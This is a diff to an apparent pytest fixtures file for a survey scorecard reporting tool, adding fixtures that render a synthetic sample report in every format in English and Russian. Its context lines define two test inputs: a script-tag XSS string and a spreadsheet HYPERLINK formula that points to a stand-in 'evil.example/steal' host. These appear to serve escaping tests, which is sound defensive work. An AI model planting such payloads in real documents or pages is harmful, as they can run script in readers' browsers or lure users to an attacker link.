@@ -10,7 +10,7 @@ import pytest
 
 from scorecard.analysis import MISSING, Answers, Comment, Respondents, Results, analyse
 from scorecard.method import Edition, default_framework
-from scorecard.report import render
+from scorecard.report import RENDERERS, ReportInput, load_meetings, load_narrative, render
 
 SCRIPT = "<script>alert('x')</script>"
 FORMULA = '=HYPERLINK("http://evil.example/steal","click me")'
@@ -66,3 +66,40 @@ def real_html(results: Results, tmp_path_factory: pytest.TempPathFactory) -> str
     out = tmp_path_factory.mktemp("real") / "report.html"
     render("html", dataclasses.replace(results, edition=edition), out)
     return out.read_text("utf-8")
+
+
+FIXTURES = Path(__file__).resolve().parent / "fixtures"
+SAMPLE = FIXTURES / "kazakhstan"
+
+
+@pytest.fixture(scope="session")
+def sample_results() -> Results:
+    """The 61-respondent synthetic sample edition (`scorecard sample`)."""
+    from scorecard.sample import SAMPLE_EDITION, sample_answers
+
+    return analyse(sample_answers(61, 2022), SAMPLE_EDITION)
+
+
+@pytest.fixture(scope="session")
+def sample_input(sample_results: Results) -> ReportInput:
+    """The sample edition with the example narrative and validation meetings."""
+    fw = sample_results.framework
+    narrative = load_narrative(SAMPLE / "narrative", fw)
+    meetings = load_meetings(SAMPLE / "meetings.toml", fw)
+    return ReportInput(sample_results, "en", narrative, meetings)
+
+
+@pytest.fixture(scope="session")
+def outputs(
+    sample_input: ReportInput, tmp_path_factory: pytest.TempPathFactory
+) -> dict[tuple[str, str], Path]:
+    """Every format of the sample report in English and Russian, rendered once per session."""
+    folder = tmp_path_factory.mktemp("formats")
+    written: dict[tuple[str, str], Path] = {}
+    for language in ("en", "ru"):
+        inp = dataclasses.replace(sample_input, language=language)
+        for fmt, renderer in RENDERERS.items():
+            out = folder / f"report-{language}.{fmt}"
+            renderer(inp, out)
+            written[(fmt, language)] = out
+    return written
